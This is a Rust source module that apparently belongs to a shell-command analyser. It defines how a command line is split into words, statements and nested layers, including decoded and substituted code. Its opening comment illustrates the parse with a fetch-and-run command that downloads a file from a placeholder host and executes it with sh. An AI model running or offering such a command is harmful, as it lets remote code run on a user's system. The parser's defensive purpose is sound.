//! The words, statements and layers that a command is taken apart into.
//!
//! ```text
//!   text    wget -q http://h.example/x && sh x
//!   words   [program][flag][argument]   [operator][program][argument]
//!   statements  `wget ...` (first)      `sh x` (and)        layer 0, the line itself
//! ```
//!
//! Words are ranges of one normalised text, which the command holds; nothing here reads a line.

/// What a word does in its statement.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq, PartialOrd, Ord)]
pub enum Role {
    /// Given to the program.
    #[default]
    Argument = 1,
    /// What runs.
    Program,
    /// Runs another program, such as `sudo` or `busybox`.
    Wrapper,
    /// An option.
    Flag,
    /// Joins statements.
    Operator,
    /// Changes where a statement reads or writes, with its file descriptor.
    Redirection,
    /// The file, descriptor or text that a redirection names.
    Target,
    /// Gives a variable its value.
    Assignment,
    /// Belongs to the shell's grammar.
    Keyword,
    /// Code of another language, or text.
    Body,
}

/// One word, as the shell would read it.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) struct Word {
    /// Where it starts in the normalised text.
    pub(super) start: usize,
    /// Where it ends.
    pub(super) end: usize,
    pub(super) role: Role,
    /// Some of it stood in quotes.
    pub(super) quoted: bool,
    /// Some of it is known to the shell only when it runs.
    pub(super) live: bool,
}

/// How a statement is joined to the one before.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub(super) enum Joint {
    /// It opens its layer, a group or a line.
    #[default]
    First,
    /// Behind `;`, a line's end or a bracket.
    Sequence,
    /// Behind `&&`.
    And,
    /// Behind `||`.
    Or,
    /// Behind `|`: it reads what the other wrote.
    Pipe,
    /// Behind `&`: the other still runs.
    Background,
}

/// What a layer is written in.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub(super) enum Language {
    #[default]
    Shell,
    /// Python, Perl, Ruby, PHP, JavaScript, Lua, awk and others: read for calls and addresses only.
    Script,
    /// Of an editor or pager, where `!` starts a shell.
    Editor,
    /// No code.
    Text,
}

/// Where a layer comes from.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub(super) enum Origin {
    /// The line itself.
    #[default]
    Line,
    /// An argument that is code.
    Argument,
    /// `$(...)`, backquotes, `<(...)`.
    Substitution,
    /// A here-document or what a pipeline feeds to a shell.
    Fed,
    /// Decoded from base64, hexadecimal digits and the like.
    Decoded,
    /// Read again behind a quote that never closed.
    Recovered,
}

/// Code within code.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub(super) struct Layer {
    pub(super) depth: usize,
    pub(super) language: Language,
    pub(super) origin: Origin,
    /// The statement that holds it.
    pub(super) parent: Option<usize>,
    /// Its first word.
    pub(super) first_word: usize,
}

/// A simple command: a program with its arguments, redirections and variables.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub(super) struct Statement {
    /// Its first word.
    pub(super) first: usize,
    /// Behind its last word.
    pub(super) last: usize,
    /// The word that names what runs.
    pub(super) program: Option<usize>,
    pub(super) joint: Joint,
    pub(super) layer: usize,
}

/// Returns the bytes of `text` from `start` to `end`, nothing where they are no text.
pub(super) fn cut(text: &str, start: usize, end: usize) -> &str {
    text.get(start..end).unwrap_or("")
}

/// Returns the last name of a path.
pub(super) fn base_name(path: &str) -> &str {
    let slash = path.bytes().rposition(|byte| byte == b'/');
    let start = slash.map_or(0, |slash| slash.saturating_add(1));
    path.get(start..).unwrap_or(path)
}
